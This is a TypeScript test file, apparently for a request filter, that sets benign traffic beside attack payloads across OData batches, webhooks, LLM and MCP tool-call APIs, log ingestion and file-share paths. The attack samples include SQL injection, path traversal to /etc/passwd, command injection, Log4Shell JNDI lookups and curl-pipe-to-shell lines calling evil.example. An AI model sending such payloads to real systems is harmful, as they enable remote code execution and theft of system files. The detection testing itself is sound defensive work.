import { asked, type HonestKinds, posted, sent, testKinds } from './honest-kinds.ts'

const PART = 'Content-Type: application/http\r\nContent-Transfer-Encoding: binary\r\n'

/** One request of a batch, as a part between boundaries `b`. */
function batched(request: string): string {
  return `--b\r\n${PART}\r\n${request}\r\n--b--\r\n`
}

function batch(body: string): ReturnType<typeof posted> {
  return posted('multipart/mixed; boundary=b', body, '/odata/$batch')
}

function change(request: string, body: unknown): string {
  const head = `${request} HTTP/1.1\r\nContent-Type: application/json\r\nContent-Length: 200\r\n\r\n`
  return `--c\r\n${PART}Content-ID: 1\r\n\r\n${head}${JSON.stringify(body)}\r\n`
}

function put(method: string, target: string): { method: string; target: string; headers: string[] } {
  return { method, target, headers: [] }
}

function called(name: string, values: Readonly<Record<string, unknown>>): ReturnType<typeof sent> {
  return sent({ jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name, arguments: values } }, '/mcp')
}

/** What protocols send that applications speak with one another, and what stays an attack beside it. */
const KINDS: HonestKinds = {
  'requests in a batch (OData, Google)': {
    honest: [
      batch(
        batched(
          'GET Products?$filter=Name%20eq%20%27O%27%27Brien%27%20or%20Price%20gt%205 HTTP/1.1\r\nAccept: application/json\r\nMaxDataServiceVersion: 2.0\r\nsap-cancel-on-close: true\r\n\r\n',
        ),
      ),
      batch(
        `--b\r\nContent-Type: multipart/mixed; boundary=c\r\n\r\n${change('POST Products', { Name: "O'Brien", Note: "it's <b>x</b>; y" })}${change("MERGE Products(ID='1')", { Text: 'R&D; more' })}--c--\r\n--b--\r\n`,
      ),
      batch(
        batched('PUT /farm/v1/animals/sheep HTTP/1.1\r\nContent-Type: application/json\r\n\r\n{"a":"b"}'),
      ),
    ],
    attacks: [
      batch(batched('GET /a HTTP/1.1\r\nHost: x\r\n\r\nGET /admin HTTP/1.1\r\nHost: y\r\n')),
      batch(batched('GET P?$filter=a%20eq%20%27x%27%20or%20%271%27=%271%27-- HTTP/1.1\r\nHost: x\r\n')),
      batch(batched('GET ../../../../etc/passwd HTTP/1.1\r\nHost: x\r\n')),
      batch(
        batched(
          'POST P HTTP/1.1\r\nContent-Type: application/json\r\n\r\n{"a":"1\' UNION SELECT b FROM users--"}',
        ),
      ),
      posted(
        'multipart/form-data; boundary=b',
        `--b\r\nContent-Disposition: form-data; name="x"\r\n${PART}\r\nGET /admin HTTP/1.1\r\nHost: x\r\n--b--\r\n`,
      ),
      sent({ a: 'x\r\nGET /admin HTTP/1.1\r\nHost: a' }),
    ],
  },
  'files that a push, a container or a finding names': {
    honest: [
      sent({ commits: [{ message: 'x', added: ['roles/web/etc/passwd.j2'], modified: [], removed: [] }] }),
      sent({ head_commit: { added: [], modified: ['rootfs/etc/shadow', '/etc/passwd'], removed: [] } }),
      sent({ spec: { containers: [{ volumeMounts: [{ mountPath: '/etc/passwd', subPath: 'passwd' }] }] } }),
      sent({ services: { web: { volumes: ['/etc/passwd:/etc/passwd:ro'] } } }),
      sent({ Image: 'x', HostConfig: { Binds: ['/etc/passwd:/etc/passwd:ro'] } }),
    ],
    attacks: [
      sent({ file: '../../../etc/passwd' }),
      sent({ added: ['x; cat /etc/passwd'] }),
      sent({ commits: [{ added: ['$(curl http://evil.example/x | sh)'] }] }),
      sent({ volumes: '; cat /etc/passwd' }),
      asked('/x', { 'commits.0.added.0': '/etc/passwd' }),
    ],
  },
  'what a language model is asked and told': {
    honest: [
      sent({ messages: [{ role: 'user', parts: [{ type: 'text', text: 'what does `; ls -la` do?' }] }] }),
      sent({
        messages: [{ role: 'user', parts: [{ type: 'text', text: "is a' OR 1=1 -- bad? And $(id)?" }] }],
      }),
      sent({ model: 'x', prompt: 'What does curl https://x.example | sh do?' }),
      sent({ model: 'x', system: 'Never run $(cmd); say no.', messages: [] }),
      sent({ tools: [{ type: 'function', function: { name: 'run', description: 'Runs $(cmd)' } }] }),
      sent({ tools: [{ input_schema: { properties: { q: { description: 'such as $(cmd)' } } } }] }),
    ],
    attacks: [
      sent({ messages: [{ parts: [{ type: 'text', text: '$' + '{jndi:ldap://evil.example/x}' }] }] }),
      sent({ prompt: '$' + '{jndi:ldap://evil.example/x}' }),
      sent({ item: { description: 'x"><script>alert(1)</script>' } }),
      sent({ user: { prompt: '$(curl http://evil.example/x | sh)', name: '$(id)' } }),
      asked('/x', { prompt: '; cat /etc/passwd' }),
    ],
  },
  'texts that a tool of an MCP server keeps in a file': {
    honest: [
      called('write_file', { path: 'a.py', content: 'import os\nprint(os.system("ls"))' }),
      called('write_file', { path: 'README.md', content: '# Hi\n\n```sh\ncurl https://x | bash\n```\n' }),
      called('write_file', { path: 'a.php', content: "<?php echo $_GET['x']; ?>" }),
      called('edit_file', { path: 'a', edits: [{ oldText: 'os.system("a")', newText: 'os.system("b")' }] }),
      called('edit', { path: 'a', old_str: 'cat /etc/hosts | sort', new_str: 'sort /etc/hosts; ls' }),
    ],
    attacks: [
      called('read_file', { path: '../../../../etc/passwd' }),
      called('ping', { host: '127.0.0.1; cat /etc/passwd' }),
      called('note', { content: '$' + '{jndi:ldap://evil.example/x}' }),
      sent({ content: '; cat /etc/passwd' }),
    ],
  },
  'lines of logs that are handed over': {
    honest: [
      posted(
        'application/x-ndjson',
        '{"index":{"_index":"l"}}\n{"message":"GET /a?x=\' OR 1=1-- 404"}\n{"index":{}}\n{"event":{"original":"sh -c \'rm -rf /tmp/x; ls\'"}}\n',
        '/_bulk',
      ),
      sent({ event: "10.0.0.1 GET /?id=1' OR '1'='1 404" }, '/services/collector/event'),
    ],
    attacks: [
      posted('application/x-ndjson', '{"index":{}}\n{"id":"1\' OR 1=1--"}\n', '/_bulk'),
      posted('application/x-ndjson', '{"a":1}\n{"message":"$' + '{jndi:ldap://e.example/x}"}\n', '/_bulk'),
      sent({ message: "x' OR 1=1--" }, '/items'),
    ],
  },
  'a Dockerfile in a webhook, and what the Finder keeps on a share': {
    honest: [
      sent({ repository: { dockerfile: 'FROM x\nRUN apt-get update && curl -fsSL https://x | sh\n' } }),
      put('PUT', '/share/Photos/.DS_Store'),
      put('PROPFIND', '/share/.DS_Store'),
      put('LOCK', '/.DS_Store'),
    ],
    attacks: [
      put('GET', '/.DS_Store'),
      put('PUT', '/.htaccess'),
      put('PUT', '/.git/hooks/pre-commit'),
      put('PROPFIND', '/.env'),
      sent({ file: 'x; curl https://evil.example | sh' }),
    ],
  },
}

testKinds(KINDS)
